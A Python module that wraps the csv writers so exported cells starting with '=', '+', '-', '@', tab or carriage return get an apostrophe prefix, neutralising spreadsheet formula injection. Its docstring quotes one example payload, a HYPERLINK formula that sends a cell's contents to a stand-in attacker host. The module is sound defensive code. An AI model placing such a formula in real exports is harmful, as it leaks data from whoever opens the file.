"""Writing CSV that a spreadsheet cannot be tricked into running: every CSV file the project writes goes through here.

A spreadsheet (Excel, LibreOffice, Google Sheets) treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and also one that starts with a tab or carriage return followed by one; a name such as
``=HYPERLINK("https://evil.example/?"&A1,"klikk")`` in an input file would then run on the case worker's machine
when the exported list is opened ("CSV injection", OWASP). Such text cells are written with a leading apostrophe,
which spreadsheets show as text and do not evaluate: ``'=HYPERLINK(...)``. Numbers the program itself computed
(``int``, ``Decimal``, ``float``) are written as they are, so a negative number stays a number.

Use :func:`writer` or :func:`dict_writer` instead of :mod:`csv`'s; do not write CSV any other way.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = frozenset("=+-@\t\r")
PREFIX = "'"


def safe_cell(value: object) -> str:
    """Return ``value`` as CSV cell text that no spreadsheet evaluates (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text and text[0] in FORMULA_STARTS:
        return PREFIX + text
    return text


def safe_text(text: str) -> str:
    """Return a text cell as :func:`safe_cell` does, for a writer that is given millions of them."""
    return PREFIX + text if text and text[0] in FORMULA_STARTS else text


class SafeWriter:
    """A :func:`csv.writer` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        self._writer.writerows([safe_cell(v) for v in row] for row in rows)


class SafeDictWriter:
    """A :class:`csv.DictWriter` whose every cell (and the header) goes through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = SafeWriter(handle, **options)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, object]) -> None:
        unknown = set(row) - set(self.fieldnames)
        if unknown:
            raise ValueError(f"fields not in the header: {sorted(unknown)}")
        self._writer.writerow(row.get(name) for name in self.fieldnames)

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: IO[str], **options: Any) -> SafeWriter:
    """Return a CSV writer for ``handle`` (opened with ``newline=""``) that neutralises formula cells."""
    return SafeWriter(handle, **options)


def dict_writer(handle: IO[str], fieldnames: Sequence[str], **options: Any) -> SafeDictWriter:
    """Return a CSV dict writer for ``handle`` (opened with ``newline=""``) that neutralises formula cells."""
    return SafeDictWriter(handle, fieldnames, **options)
